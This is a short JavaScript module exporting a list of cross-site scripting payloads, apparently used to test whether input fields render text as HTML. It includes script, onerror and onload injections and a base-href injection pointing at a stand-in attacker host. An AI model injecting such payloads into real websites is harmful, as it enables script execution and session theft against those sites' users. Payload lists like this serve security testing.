// Texts that would run as scripts in a page that treats text as HTML; short ones for short fields.
export const attacks = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'</script><svg/onload=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  'javascript:alert(1)//{{7*7}}',
  '</title><base href=//evil.example><b>',
]
